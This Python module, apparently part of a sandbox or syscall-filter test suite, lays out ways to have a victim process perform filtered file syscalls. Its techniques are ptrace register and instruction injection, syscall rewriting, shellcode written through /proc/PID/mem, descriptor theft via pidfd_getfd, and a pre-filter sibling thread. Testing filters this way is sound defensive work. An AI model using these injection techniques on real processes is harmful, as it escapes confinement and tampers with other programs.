"""Getting something done by somebody whom the filter does not cover: the victim, a sibling thread.

The victim has the program's arena at the same addresses, the same working directory, and calls a
small function of its own (``VICTIM_HOOK``) again and again; so an address or a path of the program
means the same there.  Register and structure offsets are those of x86-64.
"""

from __future__ import annotations

from collections.abc import Generator
from contextlib import contextmanager

from attacks.consts import (
    NT_PRSTATUS,
    NULL,
    O_RDWR,
    PTRACE_ATTACH,
    PTRACE_DETACH,
    PTRACE_GET_SYSCALL_INFO,
    PTRACE_GETREGS,
    PTRACE_GETREGSET,
    PTRACE_INTERRUPT,
    PTRACE_O_TRACESYSGOOD,
    PTRACE_PEEKTEXT,
    PTRACE_POKETEXT,
    PTRACE_SEIZE,
    PTRACE_SET_SYSCALL_INFO,
    PTRACE_SETREGS,
    PTRACE_SETREGSET,
    PTRACE_SINGLESTEP,
    PTRACE_SYSCALL,
    WALL,
    Named,
)
from attacks.kernel import Kernel
from attacks.program import Environment
from attacks.recorder import Arg, Buffer, Result, octal
from attacks.ring import Ring

SYS_GETPID = Named(39, "SYS_getpid")
SYS_MKDIR = Named(83, "SYS_mkdir")
SYS_CREAT = Named(85, "SYS_creat")
SYS_UNLINK = Named(87, "SYS_unlink")
SYS_CHMOD = Named(90, "SYS_chmod")

STOLEN_FD = 88
"""The victim's number for what it holds open, so that the attack need not search."""
_REGS_SIZE = 216
_RAX, _RSI, _RDI, _ORIG_RAX, _RIP = 80, 104, 112, 120, 128
_INFO_SIZE = 88
_INFO_NR, _INFO_ARG0, _INFO_ARG1 = 24, 32, 40
_NO_RESTART = -1
_SYSCALL_INSN = Named(0x050F, "syscall")
_LONG_US = 2_000_000


def traced_call(k: Kernel, number: int, path: Buffer, mode: int = 0) -> None:
    """Attaches, plants a ``syscall`` instruction, steps over it, puts everything back."""
    pid = k.env(Environment.VICTIM_PID)
    old, regs, word = (k.buffer(size, name=name) for size, name in _SAVED)
    k.ptrace(PTRACE_ATTACH, pid, NULL, NULL)
    k.wait4(pid, NULL, WALL, NULL)
    k.ptrace(PTRACE_GETREGS, pid, NULL, old)
    k.ptrace(PTRACE_GETREGS, pid, NULL, regs)
    rip = k.load(regs, _RIP)
    k.ptrace(PTRACE_PEEKTEXT, pid, rip, word)
    k.ptrace(PTRACE_POKETEXT, pid, rip, _SYSCALL_INSN)
    _fill_registers(k, regs, number, path, mode)
    k.ptrace(PTRACE_SETREGS, pid, NULL, regs)
    k.ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL).decisive()
    k.wait4(pid, NULL, WALL, NULL)
    k.ptrace(PTRACE_POKETEXT, pid, rip, k.load(word))
    k.ptrace(PTRACE_SETREGS, pid, NULL, old)
    k.ptrace(PTRACE_DETACH, pid, NULL, NULL)


def stepped_call(k: Kernel, number: int, path: Buffer, mode: int = 0) -> None:
    """Seizes and steps over a ``syscall`` instruction that the victim has: writes no text."""
    pid = k.env(Environment.VICTIM_PID)
    old, regs, _ = (k.buffer(size, name=name) for size, name in _SAVED)
    old_iov = k.struct("QQ", old, _REGS_SIZE, name="old_iov")
    iov = k.struct("QQ", regs, _REGS_SIZE, name="iov")
    _seize(k, 0)
    k.ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, old_iov)
    k.ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, iov)
    _fill_registers(k, regs, number, path, mode)
    k.store(regs, _RIP, 8, k.env(Environment.SYSCALL_INSN))
    k.ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, iov)
    k.ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL).decisive()
    k.wait4(pid, NULL, WALL, NULL)
    k.ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, old_iov)
    k.ptrace(PTRACE_DETACH, pid, NULL, NULL)


def rewritten_call(k: Kernel, number: int, path: Buffer, mode: int = 0) -> None:
    """Turns a harmless call of the victim into another while it is stopped at the entry."""
    pid = k.env(Environment.VICTIM_PID)
    old, regs, _ = (k.buffer(size, name=name) for size, name in _SAVED)
    info = k.buffer(_INFO_SIZE, name="info")
    _seize(k, PTRACE_O_TRACESYSGOOD)
    k.ptrace(PTRACE_GETREGS, pid, NULL, old)
    k.ptrace(PTRACE_GETREGS, pid, NULL, regs)
    _fill_registers(k, regs, SYS_GETPID, path, mode)
    k.store(regs, _RIP, 8, k.env(Environment.SYSCALL_INSN))
    k.ptrace(PTRACE_SETREGS, pid, NULL, regs)
    k.ptrace(PTRACE_SYSCALL, pid, NULL, NULL)
    k.wait4(pid, NULL, WALL, NULL)
    k.ptrace(PTRACE_GET_SYSCALL_INFO, pid, _INFO_SIZE, info)
    k.store(info, _INFO_NR, 8, number)
    k.store(info, _INFO_ARG0, 8, path)
    k.store(info, _INFO_ARG1, 8, octal(mode))
    k.ptrace(PTRACE_SET_SYSCALL_INFO, pid, _INFO_SIZE, info)
    k.ptrace(PTRACE_SYSCALL, pid, NULL, NULL).decisive()
    k.wait4(pid, NULL, WALL, NULL)
    k.ptrace(PTRACE_SETREGS, pid, NULL, old)
    k.ptrace(PTRACE_DETACH, pid, NULL, NULL)


def planted_call(k: Kernel, number: int, path: Buffer, mode: int = 0) -> None:
    """Overwrites a function of the victim through ``/proc/PID/mem``; needs no ptrace call."""
    code = k.data(
        b"\xb8" + int(number).to_bytes(4, "little")  # mov eax, number
        + b"\xbf\0\0\0\0"  # mov edi, path
        + b"\xbe" + mode.to_bytes(4, "little")  # mov esi, mode
        + b"\x0f\x05\xc3",  # syscall; ret
        name="code",
    )  # fmt: skip
    k.store(code, 6, 4, path)
    memory = k.open(k.proc_pid(k.env(Environment.VICTIM_PID), "/mem"), O_RDWR)
    k.pwrite64(memory, code, code.size, k.env(Environment.VICTIM_HOOK)).decisive()


def stolen_ring(k: Kernel) -> Ring:
    """The victim's ring, fetched by ``pidfd_getfd``."""
    ring = k.victim.ring()
    k.victim.raw("dup2", ring.fd, STOLEN_FD)
    pidfd = k.pidfd_open(k.env(Environment.VICTIM_PID), 0)
    return ring.stolen(k, k.pidfd_getfd(pidfd, STOLEN_FD, 0))


@contextmanager
def sibling_thread(k: Kernel) -> Generator[Kernel]:
    """What is recorded meanwhile is done by a thread that was there before the filter.

    The attack itself only stores to memory: once to start the thread, and that is decisive.
    """
    go, done = k.buffer(8, name="go"), k.buffer(8, name="done")
    with k.setup.child(k.setup.thread()):
        k.setup.wait(go, bound_us=_LONG_US)
        yield k.setup
        k.setup.store(done, 0, 4, 1)
    k.store(go, 0, 4, 1).decisive()
    k.wait(done)


_SAVED = ((_REGS_SIZE, "old"), (_REGS_SIZE, "regs"), (8, "word"))


def _seize(k: Kernel, options: int) -> Result:
    pid = k.env(Environment.VICTIM_PID)
    k.ptrace(PTRACE_SEIZE, pid, NULL, options)
    k.ptrace(PTRACE_INTERRUPT, pid, NULL, NULL)
    return k.wait4(pid, NULL, WALL, NULL)


def _fill_registers(k: Kernel, regs: Buffer, number: int, path: Arg, mode: int) -> None:
    """The call in the registers; ``orig_rax`` keeps an interrupted call from being restarted."""
    values: tuple[tuple[int, Arg], ...] = (
        (_RAX, number),
        (_RDI, path),
        (_RSI, octal(mode)),
        (_ORIG_RAX, _NO_RESTART),
    )
    for offset, value in values:
        k.store(regs, offset, 8, value)
